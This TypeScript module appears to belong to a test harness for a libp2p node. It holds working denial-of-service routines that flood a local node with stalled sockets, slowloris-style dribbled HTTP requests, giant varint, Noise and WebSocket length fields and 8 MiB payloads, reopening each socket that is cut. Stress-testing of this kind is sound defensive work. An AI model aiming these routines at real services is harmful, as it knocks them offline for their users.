import { connect, type Socket } from 'node:net'
import type { Attack, AttackOptions } from './attack.ts'
import { attackerAddress, portOf } from './local-address.ts'

/** Attacks that need no libp2p, only sockets that never come to the point. */
const OPENINGS = {
  /** Nothing is ever said, on the port for TCP. */
  'silent-tcp': { ws: false, words: [''] },
  /** Nothing is said on the port for WebSocket, half a request is, or the upgrade and nothing behind it. */
  'silent-websocket': { ws: true, words: ['', 'GET / HTTP/1.1\r\nHost: x\r\n', 'upgrade'] },
  /** A request that goes on for ever, a header at a time. */
  'half-http': { ws: true, words: ['GET / HTTP/1.1\r\nHost: x\r\nX-Slow: '] },
  /** A multistream message of 2^63 bytes, a Noise record that never ends, a WebSocket message of 2^62 bytes. */
  'giant-lengths': { ws: false, words: ['giant-varint', 'giant-noise'] },
  'giant-messages': { ws: true, words: ['giant-message', 'giant-header'] },
} as const

export type SocketAttack = keyof typeof OPENINGS

export function isSocketAttack(kind: string): kind is SocketAttack {
  return Object.hasOwn(OPENINGS, kind)
}

/** How often a socket that dribbles sends its next byte. */
const DRIBBLE_MS = 500
/** A socket that was cut is replaced this much later: the attack goes on at its full size. */
const AGAIN_MS = 100

/** Holds so many sockets, and opens each again that is cut. */
export function holdSockets(kind: SocketAttack, { count, addresses }: AttackOptions): Attack {
  const { ws, words } = OPENINGS[kind]
  const address = addresses.find((one) => one.includes('/ws') === ws && one.includes('/tcp/')) ?? ''
  const { promise: full, resolve } = Promise.withResolvers<void>()
  let opened = 0
  let cut = 0
  const open = (n: number): void => {
    const socket = connect({
      port: portOf(address),
      host: '127.0.0.1',
      localAddress: attackerAddress(n),
    })
    socket.on('error', () => {})
    socket.once('connect', () => {
      opened += 1
      if (opened >= count) resolve()
      misbehave(socket, words[n % words.length] ?? '')
    })
    socket.once('close', () => {
      cut += 1
      setTimeout(() => open(n), AGAIN_MS)
    })
  }
  for (let n = 0; n < count; n += 1) open(n)
  return { full, result: () => ({ opened, cut }) }
}

const UPGRADE = [
  'GET / HTTP/1.1',
  'Host: x',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  '\r\n',
].join('\r\n')

const MULTISTREAM = '\x13/multistream/1.0.0\n'

function misbehave(socket: Socket, words: string): void {
  socket.resume()
  const dribble = (text: string): void => {
    const timer = setInterval(() => socket.write(text), DRIBBLE_MS)
    socket.once('close', () => clearInterval(timer))
  }
  switch (words) {
    case '':
      return
    case 'upgrade':
      socket.write(UPGRADE)
      return
    case 'giant-varint':
      socket.write(Uint8Array.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]))
      return pour(socket)
    case 'giant-noise':
      socket.write(`${MULTISTREAM}\x07/noise\n`, 'latin1')
      return pour(socket)
    case 'giant-message':
      socket.write(UPGRADE)
      // a binary frame of 2^62 bytes, masked
      socket.write(Uint8Array.from([0x82, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4]))
      return pour(socket)
    case 'giant-header':
      socket.write('GET / HTTP/1.1\r\nX-Long: ')
      return pour(socket)
    default:
      socket.write(words)
      return dribble('x')
  }
}

const POURED = new Uint8Array(64 * 1024).fill(0x61)

/** As much as the other side takes, until it has had 8 MiB of nothing. */
function pour(socket: Socket): void {
  let left = 128
  const next = (): void => {
    left -= 1
    if (left > 0 && !socket.destroyed) socket.write(POURED, next)
  }
  next()
}
